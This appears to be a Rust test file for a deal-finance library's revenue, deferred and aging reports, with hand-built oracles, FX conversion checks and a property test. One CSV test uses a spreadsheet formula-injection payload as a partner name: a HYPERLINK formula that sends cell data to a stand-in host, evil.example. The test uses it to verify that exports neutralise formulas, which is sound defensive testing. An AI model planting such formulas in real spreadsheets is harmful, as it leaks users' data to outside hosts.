//! The finance reports (`model::reports`) against oracles written apart from them: a
//! walk over every day of the issue's example deal giving each day its part by the
//! split formula, installments and payments listed by hand, aging buckets at each
//! boundary day, FX conversions worked out on paper, and the CSV read back by a CSV
//! reader. A property test checks that revenue rows of any grouping add up to the
//! schedule's recognition over the whole range.

use std::collections::BTreeMap;

use chrono::{Datelike, Days, NaiveDate};
use consentry::error::Error;
use consentry::model::deal::DealId;
use consentry::model::fees::{
    BillingFrequency, Escalator, FeeSchedule, Recognition, Term, UsageFee,
};
use consentry::model::finance::{CreditNote, InvoiceId, InvoiceRecord, Payment};
use consentry::model::money::{Currency, Money};
use consentry::model::reports::{
    aging, aging_csv, deferred, deferred_csv, revenue, revenue_csv, AgingBucket, DealBooks, FxRate,
    FxTable, Grouping, RevenueQuery, RevenueReport,
};
use proptest::prelude::*;

fn d(s: &str) -> NaiveDate {
    NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap()
}

fn cur(code: &str) -> Currency {
    Currency::parse("currency", code).unwrap()
}

/// The issue's example: 60,000,000.00 USD a year from 2024-02-01 to 2027-01-31, 3%
/// escalator, billed quarterly, net 30.
fn example() -> FeeSchedule {
    FeeSchedule::new(
        Term::new(d("2024-02-01"), d("2027-01-31")).unwrap(),
        Money::new(6_000_000_000, cur("USD")),
        Escalator::parse("escalator", "3").unwrap(),
        BillingFrequency::Quarterly,
        30,
    )
    .unwrap()
}

/// The example's days with their parts, by the split formula over each contract year
/// (fees by hand: 60,000,000.00, x1.03, x1.03^2).
fn example_days() -> Vec<(NaiveDate, i64)> {
    let years = [
        ("2024-02-01", "2025-01-31", 6_000_000_000i128),
        ("2025-02-01", "2026-01-31", 6_180_000_000),
        ("2026-02-01", "2027-01-31", 6_365_400_000),
    ];
    let mut out = Vec::new();
    for (first, last, fee) in years {
        let (first, last) = (d(first), d(last));
        let n = (last - first).num_days() as i128 + 1;
        for i in 0..n {
            let day = first + Days::new(i as u64);
            out.push((day, (fee * (i + 1) / n - fee * i / n) as i64));
        }
    }
    out
}

fn books<'a>(
    deal: i64,
    partner: &'a str,
    schedule: &'a FeeSchedule,
    invoices: &'a [InvoiceRecord],
    credits: &'a [CreditNote],
    payments: &'a [Payment],
) -> DealBooks<'a> {
    DealBooks {
        deal_id: DealId(deal),
        partner_name: partner,
        schedule,
        recognition: Recognition::Ratable,
        invoices,
        credits,
        payments,
        usage: &[],
    }
}

/// The invoices `invoice generate` would make of a schedule's installments.
fn invoices_of(deal: i64, schedule: &FeeSchedule, first_id: i64) -> Vec<InvoiceRecord> {
    schedule
        .installments()
        .iter()
        .enumerate()
        .map(|(n, i)| InvoiceRecord {
            id: InvoiceId(first_id + n as i64),
            number: format!("INV-{}-{:04}", i.issue_date.year(), first_id + n as i64),
            deal_id: DealId(deal),
            kind: "installment".into(),
            source: format!("installment:{}:{}", i.year, i.index),
            period_start: i.period_first.to_string(),
            period_end: i.period_last.to_string(),
            issue_date: i.issue_date.to_string(),
            due_date: i.due_date.to_string(),
            currency: i.amount.currency.code().into(),
            amount_minor: i.amount.minor,
            voided_at: None,
            void_reason: None,
            created_at: format!("{}T09:00:00Z", i.issue_date),
        })
        .collect()
}

fn payment(id: i64, invoice: i64, minor: i64, on: &str) -> Payment {
    Payment {
        id,
        invoice_id: InvoiceId(invoice),
        amount_minor: minor,
        paid_on: on.into(),
        reference: format!("wire {id}"),
        created_at: format!("{on}T12:00:00Z"),
    }
}

fn credit(id: i64, invoice: i64, minor: i64, on: &str) -> CreditNote {
    CreditNote {
        id,
        number: format!("CN-{}-{id:04}", &on[..4]),
        invoice_id: InvoiceId(invoice),
        amount_minor: minor,
        reason: "correction".into(),
        issued_on: on.into(),
        created_at: format!("{on}T12:00:00Z"),
    }
}

fn query(from: &str, to: &str, group: Grouping) -> RevenueQuery {
    RevenueQuery {
        from: d(from),
        to: d(to),
        group,
        base: None,
    }
}

fn column(
    report: &RevenueReport,
    f: impl Fn(&consentry::model::reports::RevenueRow) -> i64,
) -> Vec<(String, i64)> {
    report
        .rows
        .iter()
        .map(|r| (r.period.clone(), f(r)))
        .collect()
}

#[test]
fn the_issue_example_by_month_quarter_and_year() {
    let s = example();
    let b = [books(7, "Acme AI", &s, &[], &[], &[])];
    let fx = FxTable::default();
    let days = example_days();

    let yearly = revenue(&b, &query("2024-01-01", "2027-12-31", Grouping::Year), &fx).unwrap();
    assert_eq!(
        column(&yearly, |r| r.recognized_minor)[0],
        ("2024".to_string(), 5_491_803_278),
        "the issue's figure for calendar 2024"
    );

    let monthly = revenue(&b, &query("2024-01-01", "2027-12-31", Grouping::Month), &fx).unwrap();
    // Every month against the day walk; months without revenue have no row.
    let mut oracle: BTreeMap<String, i64> = BTreeMap::new();
    for (day, part) in &days {
        *oracle
            .entry(format!("{:04}-{:02}", day.year(), day.month()))
            .or_default() += part;
    }
    let got: BTreeMap<String, i64> = column(&monthly, |r| r.recognized_minor)
        .into_iter()
        .collect();
    assert_eq!(got, oracle);
    assert_eq!(monthly.rows.first().unwrap().period, "2024-02");
    assert_eq!(monthly.rows.last().unwrap().period, "2027-01");

    // Months sum to their year, quarters to the total, and totals are the rows' sum.
    let mut by_year: BTreeMap<String, i64> = BTreeMap::new();
    for (period, minor) in column(&monthly, |r| r.recognized_minor) {
        *by_year.entry(period[..4].to_string()).or_default() += minor;
    }
    assert_eq!(
        by_year,
        column(&yearly, |r| r.recognized_minor)
            .into_iter()
            .collect()
    );
    let quarterly = revenue(
        &b,
        &query("2024-01-01", "2027-12-31", Grouping::Quarter),
        &fx,
    )
    .unwrap();
    let total: i64 = quarterly.rows.iter().map(|r| r.recognized_minor).sum();
    assert_eq!(total, 6_000_000_000 + 6_180_000_000 + 6_365_400_000);
    for report in [&monthly, &quarterly, &yearly] {
        assert_eq!(report.totals, BTreeMap::from([("USD".to_string(), total)]));
    }
}

#[test]
fn billed_is_the_installments_and_collected_the_payments() {
    let s = example();
    let invoices = invoices_of(7, &s, 1);
    // Invoices 1..=12, one a quarter. Paid 20 days after issue, but for invoice 4 (Nov
    // 2024) paid in two halves, one in January 2025, and invoice 12 not paid.
    let mut payments = Vec::new();
    for inv in &invoices[..11] {
        let issue = d(&inv.issue_date);
        if inv.id == InvoiceId(4) {
            payments.push(payment(100, 4, 750_000_000, "2024-12-15"));
            payments.push(payment(101, 4, 750_000_000, "2025-01-10"));
        } else {
            let on = (issue + Days::new(20)).to_string();
            payments.push(payment(inv.id.0, inv.id.0, inv.amount_minor, &on));
        }
    }
    let b = [books(7, "Acme AI", &s, &invoices, &[], &payments)];
    let report = revenue(
        &b,
        &query("2024-01-01", "2027-12-31", Grouping::Quarter),
        &FxTable::default(),
    )
    .unwrap();
    let billed: Vec<(String, i64)> = column(&report, |r| r.billed_minor)
        .into_iter()
        .filter(|(_, m)| *m != 0)
        .collect();
    let q = |p: &str, m: i64| (p.to_string(), m);
    assert_eq!(
        billed,
        [
            q("2024-Q1", 1_500_000_000),
            q("2024-Q2", 1_500_000_000),
            q("2024-Q3", 1_500_000_000),
            q("2024-Q4", 1_500_000_000),
            q("2025-Q1", 1_545_000_000),
            q("2025-Q2", 1_545_000_000),
            q("2025-Q3", 1_545_000_000),
            q("2025-Q4", 1_545_000_000),
            q("2026-Q1", 1_591_350_000),
            q("2026-Q2", 1_591_350_000),
            q("2026-Q3", 1_591_350_000),
            q("2026-Q4", 1_591_350_000),
        ]
    );
    let collected: BTreeMap<String, i64> =
        column(&report, |r| r.collected_minor).into_iter().collect();
    assert_eq!(collected["2024-Q4"], 750_000_000);
    assert_eq!(collected["2025-Q1"], 750_000_000 + 1_545_000_000);
    assert_eq!(collected["2026-Q4"], 0, "invoice 12 is not paid");
    let paid: i64 = payments.iter().map(|p| p.amount_minor).sum();
    assert_eq!(report.sums["USD"].collected_minor, paid);
    assert_eq!(
        report.sums["USD"].billed_minor,
        invoices.iter().map(|i| i.amount_minor).sum::<i64>()
    );

    // At the end of 2024: billed 4 installments, recognized the days through Dec 31,
    // the second half of invoice 4 still to be paid.
    let at = d("2024-12-31");
    let report = deferred(&b, at, None, &FxTable::default()).unwrap();
    let row = &report.rows[0];
    let recognized: i64 = example_days()
        .iter()
        .filter(|(day, _)| *day <= at)
        .map(|(_, p)| p)
        .sum();
    assert_eq!(row.billed_minor, 6_000_000_000);
    assert_eq!(row.recognized_minor, recognized);
    assert_eq!(row.deferred_minor, 6_000_000_000 - recognized);
    assert_eq!(row.receivable_minor, 750_000_000);
    assert_eq!(row.owed_back_minor, 0);
}

#[test]
fn voids_and_credit_notes() {
    let s = example();
    let mut invoices = invoices_of(7, &s, 1);
    invoices[1].voided_at = Some("2024-05-03T10:00:00Z".into());
    let credits = [
        credit(1, 1, 100_000_000, "2024-03-15"),
        credit(2, 2, 5, "2024-05-04"), // on the void invoice: ignored
    ];
    let payments = [payment(1, 1, 1_400_000_000, "2024-03-20")];
    let b = [books(7, "Acme AI", &s, &invoices, &credits, &payments)];
    let report = revenue(
        &b,
        &query("2024-01-01", "2024-06-30", Grouping::Month),
        &FxTable::default(),
    )
    .unwrap();
    let billed: BTreeMap<String, i64> = column(&report, |r| r.billed_minor).into_iter().collect();
    assert_eq!(billed["2024-02"], 1_500_000_000);
    assert_eq!(billed["2024-03"], -100_000_000);
    assert_eq!(billed["2024-05"], 0, "the May invoice is void");
    let aged = aging(&b, d("2024-06-30"), None, &FxTable::default()).unwrap();
    assert!(
        aged.invoices.is_empty(),
        "invoice 1 is settled, 2 void: {aged:?}"
    );
    let at = deferred(&b, d("2024-06-30"), None, &FxTable::default()).unwrap();
    assert_eq!(at.rows[0].billed_minor, 1_400_000_000);
    assert_eq!(at.rows[0].receivable_minor, 0);
}

#[test]
fn a_terminated_deal_stops_and_shows_what_it_owes_back_until_credited() {
    // Terminated on 2024-06-15. Invoices for Feb 1 and May 1 follow from the truncated
    // schedule; one for Aug 1 was generated before the termination was recorded.
    let full = example();
    let s = example().terminated_on(d("2024-06-15"));
    let mut invoices = invoices_of(7, &full, 1);
    invoices.truncate(3);
    let payments = [
        payment(1, 1, 1_500_000_000, "2024-02-20"),
        payment(2, 2, 1_500_000_000, "2024-05-20"),
    ];
    // May 1..Jul 31 is 92 days, 46 served: 750,000,000 unearned; Aug 1 all of it.
    let credits = [
        credit(1, 2, 700_000_000, "2024-08-20"),
        credit(2, 3, 1_500_000_000, "2024-09-01"),
        credit(3, 2, 50_000_000, "2024-10-01"),
    ];
    let b = [books(7, "Acme AI", &s, &invoices, &credits, &payments)];
    let fx = FxTable::default();
    let owed = |at: &str| deferred(&b, d(at), None, &fx).unwrap().rows[0].owed_back_minor;
    assert_eq!(owed("2024-06-14"), 0, "not yet terminated");
    assert_eq!(owed("2024-06-30"), 750_000_000);
    assert_eq!(owed("2024-08-15"), 2_250_000_000);
    assert_eq!(owed("2024-08-20"), 50_000_000 + 1_500_000_000);
    assert_eq!(owed("2024-09-01"), 50_000_000);
    assert_eq!(owed("2024-12-31"), 0);

    // Recognition stops after June 15: 2024-02-01..06-15 is 136 of 366 days.
    let recognized: i64 = example_days()
        .iter()
        .filter(|(day, _)| *day <= d("2024-06-15"))
        .map(|(_, p)| p)
        .sum();
    assert_eq!(recognized, 6_000_000_000 * 136 / 366);
    let report = revenue(&b, &query("2024-01-01", "2024-12-31", Grouping::Month), &fx).unwrap();
    let months: BTreeMap<String, i64> = column(&report, |r| r.recognized_minor)
        .into_iter()
        .collect();
    assert_eq!(months.values().sum::<i64>(), recognized);
    assert_eq!(months.get("2024-07").copied().unwrap_or(0), 0);
    let at = deferred(&b, d("2024-12-31"), None, &fx).unwrap();
    let row = &at.rows[0];
    assert_eq!(row.recognized_minor, recognized);
    assert_eq!(row.billed_minor, 4_500_000_000 - 2_250_000_000);
    assert_eq!(row.deferred_minor, 2_250_000_000 - recognized);
    // Invoice 3 was credited in full; 1 and 2 were paid: nothing to collect, and the
    // 750,000,000 paid for days not served was credited, so it is owed back as cash.
    assert_eq!(row.receivable_minor, -750_000_000);
}

#[test]
fn aging_buckets_at_the_boundary_days() {
    let s = FeeSchedule::new(
        Term::new(d("2024-01-01"), d("2024-12-31")).unwrap(),
        Money::new(1_200_000, cur("USD")),
        Escalator::NONE,
        BillingFrequency::Monthly,
        30,
    )
    .unwrap();
    let invoices = invoices_of(3, &s, 1);
    let first = &invoices[0];
    assert_eq!(
        (first.issue_date.as_str(), first.due_date.as_str()),
        ("2024-01-01", "2024-01-31")
    );
    let b = [books(3, "Acme AI", &s, &invoices[..1], &[], &[])];
    let fx = FxTable::default();
    let due = d("2024-01-31");
    for (days, bucket) in [
        (-30, AgingBucket::Current),
        (0, AgingBucket::Current),
        (1, AgingBucket::Days1To30),
        (30, AgingBucket::Days1To30),
        (31, AgingBucket::Days31To60),
        (60, AgingBucket::Days31To60),
        (61, AgingBucket::Days61To90),
        (90, AgingBucket::Days61To90),
        (91, AgingBucket::Over90),
    ] {
        let at = due + chrono::Duration::days(days);
        let report = aging(&b, at, None, &fx).unwrap();
        assert_eq!(report.invoices.len(), 1, "{at}");
        assert_eq!(
            report.invoices[0].bucket, bucket,
            "{at}: {days} days past due"
        );
        assert_eq!(report.invoices[0].days_past_due, days);
        let totals = report.totals["USD"];
        assert_eq!(totals.get(bucket), 100_000);
        assert_eq!(totals.total, 100_000);
    }
    let before = aging(&b, d("2023-12-31"), None, &fx).unwrap();
    assert!(before.invoices.is_empty(), "not issued yet");
}

#[test]
fn aging_totals_per_currency_and_in_a_base_currency() {
    let usd = FeeSchedule::new(
        Term::new(d("2024-01-01"), d("2024-12-31")).unwrap(),
        Money::new(1_200_000, cur("USD")),
        Escalator::NONE,
        BillingFrequency::Monthly,
        30,
    )
    .unwrap();
    let jpy = FeeSchedule::new(
        Term::new(d("2024-01-01"), d("2024-12-31")).unwrap(),
        Money::new(1_200_000, cur("JPY")),
        Escalator::NONE,
        BillingFrequency::Monthly,
        0,
    )
    .unwrap();
    let usd_invoices = invoices_of(1, &usd, 1);
    let jpy_invoices = invoices_of(2, &jpy, 100);
    // USD: Jan..Apr issued by Apr 15; Jan paid, Feb half paid, Mar credited 25,000.
    let usd_payments = [
        payment(1, 1, 100_000, "2024-02-10"),
        payment(2, 2, 50_000, "2024-03-01"),
    ];
    let usd_credits = [credit(1, 3, 25_000, "2024-04-01")];
    let b = [
        books(
            1,
            "Acme AI",
            &usd,
            &usd_invoices,
            &usd_credits,
            &usd_payments,
        ),
        books(2, "Kumo KK", &jpy, &jpy_invoices, &[], &[]),
    ];
    let fx = FxTable::new(&[FxRate {
        on_date: "2024-04-01".into(),
        from_currency: "USD".into(),
        to_currency: "JPY".into(),
        rate: "150.5".into(),
    }])
    .unwrap();
    let at = d("2024-04-15");
    let report = aging(&b, at, Some(cur("USD")), &fx).unwrap();
    let listed: Vec<(&str, i64, &str)> = report
        .invoices
        .iter()
        .map(|i| (i.number.as_str(), i.balance_minor, i.bucket.token()))
        .collect();
    // Due dates: USD Feb 1 + 30 = Mar 2 (44 days late at Apr 15), Mar 31 (15), May 1
    // (current); JPY, due on issue,: Jan 1 (105), Feb 1 (74), Mar 1 (45), Apr 1 (14).
    assert_eq!(
        listed,
        [
            ("INV-2024-0100", 100_000, "over_90"),
            ("INV-2024-0101", 100_000, "61-90"),
            ("INV-2024-0102", 100_000, "31-60"),
            ("INV-2024-0002", 50_000, "31-60"),
            ("INV-2024-0003", 75_000, "1-30"),
            ("INV-2024-0103", 100_000, "1-30"),
            ("INV-2024-0004", 100_000, "current"),
        ]
    );
    let usd_totals = report.totals["USD"];
    assert_eq!(
        (
            usd_totals.current,
            usd_totals.days_1_30,
            usd_totals.days_31_60,
            usd_totals.total
        ),
        (100_000, 75_000, 50_000, 225_000)
    );
    let jpy_totals = report.totals["JPY"];
    assert_eq!(
        (
            jpy_totals.days_1_30,
            jpy_totals.days_31_60,
            jpy_totals.days_61_90,
            jpy_totals.over_90
        ),
        (100_000, 100_000, 100_000, 100_000)
    );
    // 100,000 JPY / 150.5 = 664.4518... USD -> 66,445 cents, by the inverse rate.
    let base = report.in_base.unwrap();
    assert_eq!(base.currency, "USD");
    assert_eq!(base.totals.over_90, 66_445);
    assert_eq!(base.totals.days_31_60, 66_445 + 50_000);
    assert_eq!(base.totals.total, 4 * 66_445 + 225_000);
    let json = serde_json::to_value(base.totals).unwrap();
    assert_eq!(json["1-30"], 66_445 + 75_000);
    assert_eq!(json["over_90"], 66_445);

    // Without a rate on or before the day, the error names the pair and the day.
    let e = aging(&b, d("2024-03-31"), Some(cur("USD")), &fx).unwrap_err();
    assert!(
        matches!(&e, Error::Invalid(f) if f[0].field == "base"),
        "{e}"
    );
    assert!(
        e.to_string()
            .contains("no JPY→USD rate on or before 2024-03-31"),
        "{e}"
    );
}

#[test]
fn revenue_in_a_base_currency_converts_each_row_at_its_periods_end() {
    let s = FeeSchedule::new(
        Term::new(d("2024-01-01"), d("2024-12-31")).unwrap(),
        Money::new(3_660_000, cur("EUR")),
        Escalator::NONE,
        BillingFrequency::Annual,
        30,
    )
    .unwrap();
    let b = [books(1, "Acme AI", &s, &[], &[], &[])];
    let rate = |on: &str, r: &str| FxRate {
        on_date: on.into(),
        from_currency: "EUR".into(),
        to_currency: "USD".into(),
        rate: r.into(),
    };
    // 36,600.00 EUR over the 366 days of 2024: 100.00 EUR (10,000 cents) a day.
    let fx = FxTable::new(&[rate("2024-01-31", "1.085"), rate("2024-02-15", "1.0805")]).unwrap();
    let mut q = query("2024-01-01", "2024-03-31", Grouping::Month);
    q.base = Some(cur("USD"));
    let report = revenue(&b, &q, &fx).unwrap();
    let converted: Vec<(String, i64, i64)> = report
        .rows
        .iter()
        .map(|r| {
            let base = r.in_base.as_ref().unwrap();
            (r.period.clone(), r.recognized_minor, base.recognized_minor)
        })
        .collect();
    // Jan 310,000 x 1.085 = 336,350; Feb 290,000 x 1.0805 = 313,345; Mar 310,000 x
    // 1.0805 = 334,955 (the Feb 15 rate is the latest on or before Mar 31).
    let row = |p: &str, m: i64, b: i64| (p.to_string(), m, b);
    assert_eq!(
        converted,
        [
            row("2024-01", 310_000, 336_350),
            row("2024-02", 290_000, 313_345),
            row("2024-03", 310_000, 334_955),
        ]
    );
    let totals = report.in_base.unwrap();
    assert_eq!(totals.currency, "USD");
    assert_eq!(totals.sums.recognized_minor, 336_350 + 313_345 + 334_955);
    assert_eq!(report.totals["EUR"], 910_000);
    // A report from Jan 1 with the first rate dated Jan 31 works (Jan ends on the 31st),
    // but one that ends on Jan 30 has no rate.
    let mut early = query("2024-01-01", "2024-01-30", Grouping::Month);
    early.base = Some(cur("USD"));
    let e = revenue(&b, &early, &fx).unwrap_err();
    assert!(
        matches!(&e, Error::Invalid(f) if f[0].field == "base"),
        "{e}"
    );
    assert!(
        e.to_string()
            .contains("no EUR→USD rate on or before 2024-01-30"),
        "{e}"
    );
}

#[test]
fn base_conversion_rounds_half_to_even() {
    // 1 cent a day; rate 0.5: each month's odd cent count ends in a half.
    let s = FeeSchedule::new(
        Term::new(d("2023-01-01"), d("2023-12-31")).unwrap(),
        Money::new(365, cur("USD")),
        Escalator::NONE,
        BillingFrequency::Annual,
        30,
    )
    .unwrap();
    let b = [books(1, "Acme AI", &s, &[], &[], &[])];
    let fx = FxTable::new(&[FxRate {
        on_date: "2023-01-01".into(),
        from_currency: "USD".into(),
        to_currency: "EUR".into(),
        rate: "0.5".into(),
    }])
    .unwrap();
    let mut q = query("2023-01-01", "2023-04-30", Grouping::Month);
    q.base = Some(cur("EUR"));
    let report = revenue(&b, &q, &fx).unwrap();
    let got: Vec<(i64, i64)> = report
        .rows
        .iter()
        .map(|r| {
            (
                r.recognized_minor,
                r.in_base.as_ref().unwrap().recognized_minor,
            )
        })
        .collect();
    // 31 x 0.5 = 15.5 -> 16; 28 -> 14; 31 -> 16; 30 -> 15. Billed 365 in January:
    // 182.5 -> 182.
    assert_eq!(got, [(31, 16), (28, 14), (31, 16), (30, 15)]);
    let invoices = invoices_of(1, &s, 1);
    let b = [books(1, "Acme AI", &s, &invoices, &[], &[])];
    let report = revenue(&b, &q, &fx).unwrap();
    assert_eq!(report.rows[0].in_base.as_ref().unwrap().billed_minor, 182);
}

#[test]
fn the_json_has_the_issues_shape() {
    let s = example();
    let b = [books(7, "Acme AI", &s, &[], &[], &[])];
    let report = revenue(
        &b,
        &query("2024-01-01", "2024-12-31", Grouping::Year),
        &FxTable::default(),
    )
    .unwrap();
    let json = serde_json::to_value(&report).unwrap();
    let row = &json["rows"][0];
    for key in [
        "period",
        "deal_id",
        "currency",
        "recognized_minor",
        "billed_minor",
        "collected_minor",
    ] {
        assert!(row.get(key).is_some(), "{key} in {row}");
    }
    assert_eq!(row["period"], "2024");
    assert_eq!(row["deal_id"], 7);
    assert_eq!(json["totals"], serde_json::json!({"USD": 5_491_803_278i64}));
}

#[test]
fn csv_exports_neutralize_formulas_and_keep_numbers_summable() {
    let partner = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let s = example().terminated_on(d("2024-06-15"));
    let full = example();
    let mut invoices = invoices_of(7, &full, 1);
    invoices.truncate(2);
    let credits = [credit(1, 2, 750_000_000, "2024-07-01")];
    let b = [books(7, partner, &s, &invoices, &credits, &[])];
    let fx = FxTable::default();
    let read = |bytes: Vec<u8>| -> Vec<Vec<String>> {
        csv::Reader::from_reader(bytes.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    };

    let report = revenue(
        &b,
        &query("2024-01-01", "2024-12-31", Grouping::Quarter),
        &fx,
    )
    .unwrap();
    let mut out = Vec::new();
    revenue_csv(&report, &mut out).unwrap();
    let text = String::from_utf8(out.clone()).unwrap();
    assert!(text.starts_with(
        "period,period_start,period_end,deal_id,partner,currency,recognized_minor,recognized,\
         billed_minor,billed,collected_minor,collected\n"
    ));
    let rows = read(out);
    assert_eq!(rows.len(), report.rows.len());
    for row in &rows {
        assert_eq!(row[4], format!("'{partner}"));
    }
    let q3 = rows.iter().find(|r| r[0] == "2024-Q3").unwrap();
    assert_eq!(
        (q3[8].as_str(), q3[9].as_str()),
        ("-750000000", "-7500000.00")
    );

    let mut out = Vec::new();
    deferred_csv(&deferred(&b, d("2024-12-31"), None, &fx).unwrap(), &mut out).unwrap();
    let rows = read(out);
    assert_eq!(rows[0][2], format!("'{partner}"));

    let mut out = Vec::new();
    aging_csv(&aging(&b, d("2024-12-31"), None, &fx).unwrap(), &mut out).unwrap();
    let rows = read(out);
    assert!(!rows.is_empty());
    assert!(rows.iter().all(|r| r[4] == format!("'{partner}")));
}

#[test]
fn usage_fees_are_recognized_on_their_delivery_date() {
    let s = example();
    let usage = [
        UsageFee {
            on: d("2024-03-10"),
            amount: Money::new(12_345, cur("USD")),
        },
        UsageFee {
            on: d("2024-03-31"),
            amount: Money::new(5, cur("USD")),
        },
    ];
    let plain = [books(7, "Acme AI", &s, &[], &[], &[])];
    let with = [DealBooks {
        usage: &usage,
        ..plain[0]
    }];
    let fx = FxTable::default();
    let q = query("2024-03-01", "2024-04-30", Grouping::Month);
    let a = revenue(&plain, &q, &fx).unwrap();
    let b = revenue(&with, &q, &fx).unwrap();
    assert_eq!(
        b.rows[0].recognized_minor - a.rows[0].recognized_minor,
        12_350
    );
    assert_eq!(b.rows[1].recognized_minor, a.rows[1].recognized_minor);
}

/// A generated deal and report range.
#[derive(Debug, Clone)]
struct Case {
    start: NaiveDate,
    days: u64,
    fee: i64,
    billing: BillingFrequency,
    termination: Option<u64>,
    from_offset: i64,
    span: u64,
}

fn cases() -> impl Strategy<Value = Case> {
    (
        0u64..3000,
        1u64..1500,
        0i64..10_000_000_000,
        prop_oneof![
            Just(BillingFrequency::Annual),
            Just(BillingFrequency::Quarterly),
            Just(BillingFrequency::Monthly)
        ],
        proptest::option::of(0u64..1600),
        -400i64..400,
        0u64..2000,
    )
        .prop_map(
            |(s, days, fee, billing, termination, from_offset, span)| Case {
                start: d("2020-01-01") + Days::new(s),
                days,
                fee,
                billing,
                termination,
                from_offset,
                span,
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Whatever the grouping, the rows sum to the schedule's recognition over the range
    /// (the rule the report must not change), and months regroup into years exactly.
    #[test]
    fn rows_add_up_to_the_range(case in cases()) {
        let term = Term::new(case.start, case.start + Days::new(case.days)).unwrap();
        let mut s = FeeSchedule::new(
            term,
            Money::new(case.fee, cur("USD")),
            Escalator::parse("e", "2.5").unwrap(),
            case.billing,
            30,
        )
        .unwrap();
        if let Some(t) = case.termination {
            s = s.terminated_on(case.start + Days::new(t));
        }
        let from = case.start + chrono::Duration::days(case.from_offset);
        let to = from + Days::new(case.span);
        let b = [books(1, "P", &s, &[], &[], &[])];
        let fx = FxTable::default();
        let expected = s.recognized(from, to).minor;
        let mut by_year: BTreeMap<String, i64> = BTreeMap::new();
        for group in [Grouping::Month, Grouping::Quarter, Grouping::Year] {
            let q = RevenueQuery { from, to, group, base: None };
            let report = revenue(&b, &q, &fx).unwrap();
            let sum: i64 = report.rows.iter().map(|r| r.recognized_minor).sum();
            prop_assert_eq!(sum, expected);
            prop_assert_eq!(report.totals.get("USD").copied().unwrap_or(0), expected);
            for r in &report.rows {
                prop_assert!(from <= r.period_start && r.period_end <= to);
                prop_assert_eq!(
                    s.recognized(r.period_start, r.period_end).minor,
                    r.recognized_minor
                );
            }
            if group == Grouping::Month {
                for r in &report.rows {
                    *by_year.entry(r.period[..4].to_string()).or_default() += r.recognized_minor;
                }
            } else if group == Grouping::Year {
                by_year.retain(|_, m| *m != 0);
                let years: BTreeMap<String, i64> =
                    report.rows.iter().map(|r| (r.period.clone(), r.recognized_minor)).collect();
                prop_assert_eq!(&by_year, &years);
            }
        }
    }
}
